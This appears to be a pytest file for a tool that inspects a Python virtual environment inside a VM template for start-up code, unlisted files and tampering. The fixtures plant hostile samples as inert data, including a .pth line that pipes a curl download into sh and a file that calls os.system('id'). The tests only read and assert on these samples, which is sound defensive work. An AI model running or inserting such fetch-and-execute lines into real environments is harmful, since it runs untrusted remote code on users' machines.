"""The start-up inventory: what a template runs at every Python start, read without booting it."""

from __future__ import annotations

import base64
import hashlib
import os
from pathlib import Path

from vmiso import tools
from vmiso.image import inventory

SITE = "lib/python3.11/site-packages"


def _hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _venv(root: Path) -> Path:
    """A venv as install-time code could leave it: one honest package and what a hostile one planted."""
    files = {
        "pyvenv.cfg": b"home = /usr/bin\n",
        f"{SITE}/good/__init__.py": b"def main(): pass\n",
        f"{SITE}/good/_fast.cpython-311-x86_64-linux-gnu.so": b"\x7fELF listed",
        f"{SITE}/good/helper.py": b"print('changed after install')\n",
        f"{SITE}/good/__pycache__/__init__.cpython-311.pyc": b"bytecode of its source",
        f"{SITE}/orphan/__pycache__/ghost.cpython-311.pyc": b"bytecode without source runs as code",
        f"{SITE}/planted.cpython-311-x86_64-linux-gnu.so": b"\x7fELF in no RECORD",
        f"{SITE}/evil.pth": b"# a comment\n/opt/extra\nimport os; os.system('curl x | sh')\n",
        f"{SITE}/paths.pth": b"/opt/only/a/path\n",
        f"{SITE}/sitecustomize.py": b"import telemetry\n",
        "bin/tool": b"#!/opt/vmiso/venv/bin/python\nfrom good import main\n",
        f"{SITE}/good-1.0.dist-info/entry_points.txt": b"[console_scripts]\ntool = good:main\n",
        f"{SITE}/good-1.0.dist-info/sboms/good.cdx.json": b'{"bomFormat": "CycloneDX"}',  # PEP 770
        # In the wheel, not in its RECORD: pip lists such a file without a hash.
        f"{SITE}/good/carried.py": b"import os; os.system('id')\n",
    }
    record = "".join(f"{path[len(SITE) + 1:]},{_hash(files[path])},{len(files[path])}\n" for path in (
        f"{SITE}/good/__init__.py", f"{SITE}/good/_fast.cpython-311-x86_64-linux-gnu.so",
        f"{SITE}/good-1.0.dist-info/entry_points.txt", f"{SITE}/good-1.0.dist-info/sboms/good.cdx.json"))
    record += f"good/helper.py,{_hash(b'the original helper')},19\n"
    record += f"good/gone.py,{_hash(b'x')},1\n"
    record += f"../../../bin/tool,{_hash(files['bin/tool'])},{len(files['bin/tool'])}\n"
    record += "good/__pycache__/__init__.cpython-311.pyc,,\ngood-1.0.dist-info/RECORD,,\ngood/carried.py,,\n"
    files[f"{SITE}/good-1.0.dist-info/RECORD"] = record.encode()
    for path, data in files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    os.symlink("/usr/bin/python3", root / "bin" / "python")
    os.symlink("/etc/elsewhere.pth", root / SITE / "linked.pth")
    return root


def _system(root: Path) -> Path:
    (root / "dist-packages").mkdir(parents=True)
    (root / "dist-packages" / "debian.pth").write_bytes(b"import sys\n")
    return root


def test_the_inventory_names_start_up_code_unlisted_files_and_tampering(tmp_path):
    found = inventory.inventory_of(_venv(tmp_path / "venv"), {"/usr/lib/python3": _system(tmp_path / "sys")})
    pth = {p["path"]: p["executes"] for p in found.pth}
    assert pth == {
        f"/opt/vmiso/venv/{SITE}/evil.pth": ["import os; os.system('curl x | sh')"],
        f"/opt/vmiso/venv/{SITE}/paths.pth": [],
        f"/opt/vmiso/venv/{SITE}/linked.pth": ["(a symbolic link: not read)"],
        "/usr/lib/python3/dist-packages/debian.pth": ["import sys"],
    }
    assert [m["path"] for m in found.startup_modules] == [f"/opt/vmiso/venv/{SITE}/sitecustomize.py"]
    assert sorted(found.unlisted) == sorted([
        f"/opt/vmiso/venv/{SITE}/evil.pth", f"/opt/vmiso/venv/{SITE}/paths.pth",
        f"/opt/vmiso/venv/{SITE}/sitecustomize.py", f"/opt/vmiso/venv/{SITE}/planted.cpython-311-x86_64-linux-gnu.so",
        f"/opt/vmiso/venv/{SITE}/orphan/__pycache__/ghost.cpython-311.pyc",
        f"/opt/vmiso/venv/{SITE}/good/carried.py" + inventory.HASHLESS,
        f"/opt/vmiso/venv/{SITE}/linked.pth (a symbolic link)"])
    assert sorted((t["path"], t["why"]) for t in found.tampered) == [
        (f"{SITE}/good/gone.py", "listed in RECORD, missing"),
        (f"{SITE}/good/helper.py", "its sha256 differs from RECORD's")]
    native = {n["path"].rsplit("/", 1)[-1]: n["distribution"] for n in found.native}
    assert native == {"_fast.cpython-311-x86_64-linux-gnu.so": "good-1.0",
                      "planted.cpython-311-x86_64-linux-gnu.so": None}
    assert found.entry_points == [{"name": "tool", "target": "good:main", "distribution": "good-1.0"}]
    assert found.sboms == [{"path": f"/opt/vmiso/venv/{SITE}/good-1.0.dist-info/sboms/good.cdx.json",
                            "sha256": hashlib.sha256(b'{"bomFormat": "CycloneDX"}').hexdigest(), "size": 26,
                            "distribution": "good-1.0"}]
    lines = inventory.summary_lines(found.as_dict())
    assert lines[0].startswith("3 .pth file(s) run code at every Python start: evil.pth (import os;")
    assert "linked.pth ((a symbolic link: not read))" in lines[0] and "debian.pth (import sys)" in lines[0]
    assert "7 file(s) in the venv belong to no package" in lines[2]
    assert lines[3].startswith("2 installed file(s) differ from their RECORD")
    assert lines[4] == "2 native extension(s), 1 of them in no package's RECORD"


def test_an_honest_venv_has_nothing_to_report(tmp_path):
    root = tmp_path / "venv"
    data = b"x = 1\n"
    (root / SITE / "clean").mkdir(parents=True)
    (root / SITE / "clean" / "__init__.py").write_bytes(data)
    (root / SITE / "clean-1.0.dist-info").mkdir()
    (root / SITE / "clean-1.0.dist-info" / "RECORD").write_text(
        f"clean/__init__.py,{_hash(data)},{len(data)}\nclean-1.0.dist-info/RECORD,,\n")
    found = inventory.inventory_of(root, {})
    assert (found.pth, found.unlisted, found.tampered, found.native, found.unreadable) == ([], [], [], [], [])
    assert inventory.summary_lines(found.as_dict())[0] == "no .pth file runs code at Python start"


def test_the_inventory_is_read_from_a_template_without_booting_it(tmp_path):
    root = tmp_path / "root"
    _venv(root / "opt" / "vmiso" / "venv")
    _system(root / "usr" / "lib" / "python3")
    raw = tmp_path / "fs.raw"
    tools.run(tools.mkfs_ext4_argv(source_dir=root, image=raw, size_bytes=16 * 1024**2, label="t"))
    template = tmp_path / "template.qcow2"
    tools.run(tools.qemu_img_convert_argv(raw, "raw", template))
    work = tmp_path / "work"
    work.mkdir()
    found = inventory.read_template(template, "/dev/vda", work)
    assert found.unreadable == []
    assert {p["path"] for p in found.pth} >= {f"/opt/vmiso/venv/{SITE}/evil.pth",
                                              "/usr/lib/python3/dist-packages/debian.pth"}
    assert f"/opt/vmiso/venv/{SITE}/planted.cpython-311-x86_64-linux-gnu.so" in found.unlisted
    assert len(found.tampered) == 2
    assert list(work.iterdir()) == []  # the copy is gone


def test_an_unreadable_template_is_said_so_not_passed(tmp_path):
    bogus = tmp_path / "template.qcow2"
    bogus.write_bytes(b"not a disk")
    work = tmp_path / "work"
    work.mkdir()
    found = inventory.read_template(bogus, "/dev/vda", work)
    assert found.unreadable and found.unreadable[0].startswith("the template could not be read")
